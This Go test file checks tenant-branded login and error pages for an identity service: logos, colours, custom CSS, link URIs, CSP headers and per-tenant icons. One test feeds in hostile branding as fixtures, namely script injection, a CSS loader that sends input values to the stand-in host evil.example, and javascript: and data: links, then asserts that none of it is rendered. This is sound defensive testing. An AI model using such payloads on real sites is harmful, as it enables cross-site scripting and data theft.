package login

import (
	"encoding/base64"
	"html"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/vouchsafe/vouchsafe/internal/chromiumtest"
	"github.com/vouchsafe/vouchsafe/storage"
)

// acme adds a tenant whose pages look like those of no other.
func (s *site) acme(b storage.Branding) {
	s.t.Helper()
	err := s.store.AddTenant(s.t.Context(),
		storage.Tenant{ID: "acme", Name: "Acme & Söhne", LogoURI: "https://acme.example/logo.svg",
			Settings: storage.TenantSettings{Branding: b}})
	if err != nil {
		s.t.Fatal(err)
	}
}

var rosy = storage.Branding{
	Accent: "#b3005e", Background: "#fff0f6",
	PrivacyURI: "https://acme.example/privacy", TermsURI: "https://acme.example/terms",
	HelpURI: "mailto:help@acme.example", ImprintURI: "https://acme.example/imprint",
	CSS: "main { border-radius: 3px }\nh1::after { content: \" ✿\" / \"\"; }",
}

func TestTenantsLookAsTheySay(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	s.acme(rosy)
	v := s.visitor()
	p := v.get("/t/acme/login?ui_locales=de")
	for _, want := range []string{"Acme &amp; Söhne", `src="https://acme.example/logo.svg"`,
		`href="https://acme.example/privacy" rel="noopener noreferrer">Datenschutz</a>`, `href="https://acme.example/terms"`,
		`href="mailto:help@acme.example"`, `href="https://acme.example/imprint"`} {
		if !strings.Contains(p.body, want) {
			t.Errorf("the page is without %s", want)
		}
	}
	m := regexp.MustCompile(`href="(/t/acme/static/brand\.[0-9a-f]+\.css)"`).FindStringSubmatch(p.body)
	if m == nil {
		t.Fatal("the page links to no sheet of the tenant's")
	}
	sheet := v.get(m[1])
	if sheet.status != http.StatusOK || sheet.header.Get("Content-Type") != "text/css; charset=utf-8" ||
		!strings.Contains(sheet.header.Get("Cache-Control"), "immutable") ||
		!strings.Contains(sheet.body, "--accent:#b3005e") || !strings.HasSuffix(sheet.body, rosy.CSS) {
		t.Errorf("got %d %v %s", sheet.status, sheet.header, sheet.body)
	}
	if p := v.get("/t/acme/static/brand.000000.css"); p.status != http.StatusOK ||
		p.header.Get("Cache-Control") != "no-store" {
		t.Errorf("by another name: got %d, kept %s", p.status, p.header.Get("Cache-Control"))
	}
	// No other tenant's pages have it.
	if p := v.get("/login"); strings.Contains(p.body, "brand.") || strings.Contains(p.body, "acme") {
		t.Error("the default tenant's page looks like acme's")
	}
	if p := v.get(strings.TrimPrefix(m[1], "/t/acme")); p.status != http.StatusNotFound {
		t.Errorf("the default tenant's sheet: got %d", p.status)
	}
	if strings.Contains(p.body, "<svg") || strings.Contains(p.body, "mark.") ||
		!strings.Contains(p.body, `<link rel="icon" href="https://acme.example/logo.svg">`) {
		t.Error("a page with a logo shows another mark, or has another icon")
	}
	// The error page has it within itself.
	p = v.get("/t/acme/setup")
	csp := p.header.Get("Content-Security-Policy")
	if !strings.Contains(p.body, rosy.CSS+"</style>") || strings.Count(csp, "'sha256-") != 2 ||
		strings.Contains(csp, "unsafe") {
		t.Errorf("got an error page by %s", csp)
	}
}

// TestHostileBranding stores what tenants.yaml would not take, as an attacker might who can
// write to the database.
func TestHostileBranding(t *testing.T) {
	t.Parallel()
	for name, b := range map[string]storage.Branding{
		"a script": {CSS: `</style><script>alert(1)</script>`},
		"a loader": {CSS: `input[value^=a]{background:url(https://evil.example/a)}`},
		"a colour": {Accent: `#fff;}</style><script>alert(1)</script>`},
		"script links": {PrivacyURI: "javascript:alert(1)", TermsURI: "data:text/html,x", HelpURI: "mailto:",
			ImprintURI: `https://a.example/"><script>alert(1)</script>`},
	} {
		s := newSite(t, nil)
		s.acme(b)
		v := s.visitor()
		for _, path := range []string{"/t/acme/login", "/t/acme/setup", "/t/acme/static/brand.00.css"} {
			p := v.get(path)
			for _, never := range []string{"<script", "alert(1)<", "evil.example", "javascript:", "data:text", "mailto:"} {
				if strings.Contains(strings.ReplaceAll(p.body, `<script src="/t/acme/static/`, ""), never) {
					t.Errorf("%s: %s holds %s", name, path, never)
				}
			}
		}
	}
}

func TestBrandedPagesInChromium(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	s.acme(rosy)
	c := &chrome{s, chromiumtest.New(t)}
	for _, path := range []string{"/t/acme/login", "/t/acme/setup"} {
		c.open(path)
		c.picture("branded" + strings.ReplaceAll(path, "/", "-"))
		c.resize(1280, 800)
		for _, want := range []struct{ scheme, ground string }{{"light", "rgb(255, 240, 246)"}, {"dark", "rgb(14, 20, 19)"}} {
			chromiumtest.Scheme(t, c.ctx, want.scheme)
			if got := chromiumtest.Run(t, c.ctx,
				chromedp.Evaluate[string](`getComputedStyle(document.body).backgroundColor`)); got != want.ground {
				t.Errorf("%s, %s: the background is %s, want %s", path, want.scheme, got, want.ground)
			}
			// A dark logo would not be seen in the dark.
			chip := map[string]string{"light": "rgba(0, 0, 0, 0)", "dark": "rgb(255, 255, 255)"}[want.scheme]
			if got := chromiumtest.Run(t, c.ctx, chromedp.Evaluate[string](
				`getComputedStyle(document.querySelector(".logo")).backgroundColor`)); got != chip {
				t.Errorf("%s, %s: the logo is on %s, want %s", path, want.scheme, got, chip)
			}
		}
		if got := chromiumtest.Run(t, c.ctx,
			chromedp.Evaluate[string](`getComputedStyle(document.querySelector("main")).borderRadius`)); got != "3px" {
			t.Errorf("%s: the tenant's own CSS does nothing: %s", path, got)
		}
	}
}

// TestTenantsWithoutALogoHaveTheirInitial: the mark of the product stands for no tenant, neither on
// pages nor in the browser's tab, and one tenant's mark is not cached for another.
func TestTenantsWithoutALogoHaveTheirInitial(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	for id, name := range map[string]string{"acme": "acme rockets", "hebrew": "אקמה", "evil": `<script>alert(1)</script>`,
		"sign": "<&", "none": "..."} {
		err := s.store.AddTenant(t.Context(), storage.Tenant{ID: id, Name: name,
			Settings: storage.TenantSettings{Branding: storage.Branding{Accent: "#c2410c"}}})
		if err != nil {
			t.Fatal(err)
		}
	}
	v := s.visitor()
	icon := regexp.MustCompile(`<link rel="icon" href="([^"]*)">`)
	icons := map[string]string{}
	for id, letter := range map[string]string{"acme": "A", "hebrew": "א", "evil": "S", "sign": "&lt;", "none": ""} {
		p := v.get("/t/" + id + "/login")
		if strings.Contains(p.body, "M8.5 10.5") ||
			!strings.Contains(p.body, `<span class="mark" aria-hidden="true">`+letter+`</span>`) {
			t.Errorf("%s: the page is without the initial %q", id, letter)
		}
		m := icon.FindStringSubmatch(p.body)
		if m == nil || !strings.HasPrefix(m[1], "/t/"+id+"/static/initial.") {
			t.Fatalf("%s: got icon %q", id, m)
		}
		icons[id] = strings.TrimPrefix(m[1], "/t/"+id)
		svg := v.get(m[1])
		if svg.header.Get("Content-Type") != "image/svg+xml" || !strings.Contains(svg.body, ">"+letter+"</text>") ||
			!strings.Contains(svg.body, `fill="#c2410c"`) || !strings.Contains(svg.header.Get("Cache-Control"), "immutable") ||
			svg.header.Get("Content-Security-Policy") != "default-src 'none'; sandbox" || svg.header.Get("Set-Cookie") != "" {
			t.Errorf("%s: got %d %v %s", id, svg.status, svg.header, svg.body)
		}
		// The error page holds it within itself.
		p = v.get("/t/" + id + "/setup")
		m = icon.FindStringSubmatch(p.body)
		if m == nil {
			t.Fatalf("%s: the error page has no icon", id)
		}
		encoded, _ := strings.CutPrefix(html.UnescapeString(m[1]), "data:image/svg+xml;base64,")
		if drawn, err := base64.StdEncoding.DecodeString(encoded); err != nil || string(drawn) != svg.body {
			t.Errorf("%s: the error page has another icon: %s", id, m[1])
		}
	}
	// Another tenant's picture under this tenant's path is this tenant's own, and is not kept.
	p := v.get("/t/acme" + icons["hebrew"])
	if p.header.Get("Cache-Control") != "no-store" || !strings.Contains(p.body, ">A</text>") {
		t.Errorf("by the name of another tenant's: got %s kept %s", p.body, p.header.Get("Cache-Control"))
	}
	// The default tenant is the product until it is given a name.
	p = v.get("/login")
	if m := icon.FindStringSubmatch(p.body); !strings.Contains(p.body, "M8.5 10.5") || m == nil ||
		!strings.HasPrefix(m[1], "/static/mark.") {
		t.Errorf("the default tenant: got icon %q", m)
	}
	if p := v.get(icons["acme"]); p.status != http.StatusNotFound {
		t.Errorf("the default tenant's initial: got %d", p.status)
	}
}

// TestLogosRunNothing: a logo is a picture to the browser wherever it is shown, so that scripts in
// it do not run, and no policy would let them.
func TestLogosRunNothing(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	s.acme(storage.Branding{})
	v := s.visitor()
	for _, path := range []string{"/t/acme/login", "/t/acme/setup"} {
		p := v.get(path)
		for _, place := range strings.Split(p.body, "https://acme.example/logo.svg")[:2] {
			if !strings.HasSuffix(place, `<img class="logo" src="`) && !strings.HasSuffix(place, `<link rel="icon" href="`) {
				t.Errorf("%s: the logo is shown by %q", path, place[max(0, len(place)-40):])
			}
		}
		csp := p.header.Get("Content-Security-Policy")
		if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "object-src") ||
			strings.Contains(csp, "frame-src") || strings.Contains(csp, "script-src https") {
			t.Errorf("%s: got %s", path, csp)
		}
	}
}
